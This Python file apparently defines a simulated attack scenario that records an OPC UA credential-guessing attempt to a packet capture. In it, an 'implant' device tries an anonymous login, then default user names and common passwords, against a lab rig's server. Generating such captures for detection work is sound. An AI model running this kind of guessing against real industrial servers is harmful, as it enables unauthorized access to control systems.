"""A device in the cell tries user names and passwords on an OPC UA server that still offers an endpoint in clear."""

from __future__ import annotations

import contextlib

from asyncua.ua.uaerrors import UaError

from pcaps.scenarios.rig.line import make_scenario
from pcaps.scenarios.rig.machine import MIXING
from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.supervisor import Login, open_client, server_url

_NAMES = ("admin", "Administrator", "root", "opcua", "operator", "engineer", "service", "user", "guest", "beckhoff")
_WORDS = ("admin", "1", "password", "operator", "12345678")


async def attack(stage: Stage) -> None:
    """Come without a name, try one password for ten names, then five passwords for one name."""
    await stage.until(30)
    tries = [("", ""), *((name, "1") for name in _NAMES), *(("operator", word) for word in _WORDS)]
    for ordinal, (name, word) in enumerate(tries):
        if ordinal in (0, 1, 1 + len(_NAMES)):
            stage.mark()
        with contextlib.suppress(UaError):
            async with open_client(stage, server_url(MIXING), Login("uaclient", user=name, password=word)):
                pass
        await stage.wait(2)


SCENARIO = make_scenario("opcua_user_guessing.pcap.gz", 33, 90, {"implant": attack}, strangers=("implant",))
